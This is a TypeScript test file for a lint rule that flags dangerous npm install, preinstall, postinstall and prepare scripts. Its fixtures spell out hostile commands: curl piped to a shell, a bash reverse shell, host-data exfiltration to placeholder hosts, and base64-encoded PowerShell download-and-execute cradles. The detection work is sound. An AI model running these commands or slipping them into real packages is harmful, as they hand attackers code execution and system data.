import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/install-script.ts'

const pkg = (scripts: Record<string, unknown>, name = 'a') => ({ name, version: '1.0.0', scripts })

new RuleTester().run(rule, {
  valid: [
    { name: 'no scripts', manifest: { name: 'a', version: '1.0.0' } },
    { name: 'only scripts npm does not run on install', manifest: pkg({ test: 'vitest', build: 'tsc', prepublishOnly: 'npm test', postpublish: 'curl https://x.invalid | sh', preuninstall: 'node x.js' }) },
    { name: 'an install script that is not a string', manifest: pkg({ postinstall: 42, preinstall: ['curl x | sh'], install: null }) },
    { name: 'scripts that is not an object', manifest: { name: 'a', version: '1.0.0', scripts: 'curl https://x.invalid | sh' } },
    { name: 'an install command outside scripts', manifest: { name: 'a', version: '1.0.0', config: { postinstall: 'curl https://x.invalid | sh' } } },
    { name: 'no package.json at all', files: { 'package.json': 'not json {' } },
  ],
  invalid: [
    {
      name: 'a PowerShell download cradle hidden with -EncodedCommand is decoded and critical',
      manifest: { name: 'a', version: '1.0.0', scripts: { postinstall: 'powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBwAC4AcABzADEAJwApAA==' } },
      errors: [{ severity: 'critical', file: 'package.json', message: /downloads and executes with PowerShell, hidden in a PowerShell -EncodedCommand/ }],
    },
    {
      name: 'any command passed encoded is high: it cannot be read without decoding',
      manifest: { name: 'a', version: '1.0.0', scripts: { install: 'pwsh -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A' } },
      errors: [{ severity: 'high', file: 'package.json', message: /passed encoded \(-EncodedCommand\)/ }],
    },
    {
      name: 'a shell script run by the install script is read too',
      manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: './setup.sh' } },
      files: { 'setup.sh': '#!/bin/sh\necho hi\ncurl -s "https://x.example.invalid/?h=$(hostname)&u=$(whoami)"\n' },
      errors: [
        { severity: 'low', file: 'package.json' },
        { severity: 'critical', file: 'setup.sh', line: 3, message: 'sends host data' },
      ],
    },
    {
      name: 'a benign build script run with sh stays low',
      manifest: { name: 'a', version: '1.0.0', scripts: { install: 'sh scripts/build.sh' } },
      files: { 'scripts/build.sh': '#!/bin/sh\nset -e\nnode-gyp rebuild || echo "prebuilt binary used"\n' },
      errors: [{ severity: 'low', file: 'package.json' }],
    },
    {
      name: 'curl piped to sh',
      manifest: pkg({ postinstall: 'curl -s https://x.invalid/i.sh | sh' }),
      errors: [{ severity: 'critical', file: 'package.json', message: 'pipes a download into an interpreter' }],
    },
    {
      name: 'wget piped to bash in preinstall',
      manifest: pkg({ preinstall: 'wget -qO- http://x.invalid/a | bash' }),
      errors: [{ severity: 'critical', message: /^The preinstall script pipes a download/ }],
    },
    {
      name: 'download, chmod and run',
      manifest: pkg({ install: 'curl -o /tmp/.x https://x.invalid/bin && chmod +x /tmp/.x && /tmp/.x' }),
      errors: [{ severity: 'critical', message: 'downloads a file, then makes it executable or runs it' }],
    },
    {
      name: 'command substitution of a download',
      manifest: pkg({ postinstall: 'sh -c "$(curl -fsSL https://x.invalid/i.sh)"' }),
      errors: [{ severity: 'critical', message: 'runs the output of a download as a command' }],
    },
    {
      name: 'PowerShell download and execute',
      manifest: pkg({ preinstall: 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x.invalid\')"' }),
      errors: [{ severity: 'critical', message: 'PowerShell' }],
    },
    {
      name: 'reverse shell',
      manifest: pkg({ postinstall: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }),
      errors: [{ severity: 'critical', message: 'reverse shell' }],
    },
    {
      name: 'host data sent with curl',
      manifest: pkg({ preinstall: 'curl "https://x.invalid/?u=$(whoami)&h=$(hostname)&p=$PWD"' }),
      errors: [{ severity: 'critical', message: 'sends host data' }],
    },
    {
      name: 'a plain network call is high',
      manifest: pkg({ postinstall: 'curl -s https://x.invalid/ping' }),
      errors: [{ severity: 'high', message: 'contacts the network' }],
    },
    {
      name: 'prepare runs for git dependencies and is checked too',
      manifest: pkg({ prepare: 'curl https://x.invalid/a | sh' }),
      errors: [{ severity: 'critical', message: 'The prepare script' }],
    },
    {
      name: "esbuild's installer is only noted",
      manifest: pkg({ postinstall: 'node install.js' }, 'esbuild'),
      errors: [{ severity: 'low', file: 'package.json', message: 'Runs `node install.js` on install (postinstall)' }],
    },
    {
      name: "husky's prepare is only noted",
      manifest: pkg({ prepare: 'husky' }, 'husky-user'),
      errors: [{ severity: 'low', message: 'Runs `husky` on install (prepare)' }],
    },
    {
      name: 'node-gyp rebuild is only noted',
      manifest: pkg({ install: 'node-gyp rebuild' }, 'native'),
      errors: [{ severity: 'low', message: '(install)' }],
    },
    {
      name: "core-js's postinstall banner is only noted",
      manifest: pkg({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }, 'core-js'),
      errors: [{ severity: 'low' }],
    },
    {
      name: 'every install script is reported, in lifecycle order',
      manifest: pkg({ postinstall: 'node b.js', prepare: 'husky', preinstall: 'node a.js', install: 'curl https://x.invalid | sh', test: 'x' }),
      errors: [
        { severity: 'low', message: '(preinstall)' },
        { severity: 'critical', message: 'The install script' },
        { severity: 'low', message: '(postinstall)' },
        { severity: 'low', message: '(prepare)' },
      ],
    },
    {
      name: 'a very long command is cut in the message',
      manifest: pkg({ postinstall: `node ${'x'.repeat(1000)}.js` }),
      errors: [{ severity: 'low', message: /^Runs `node x{115}` on install/ }],
    },
  ],
})
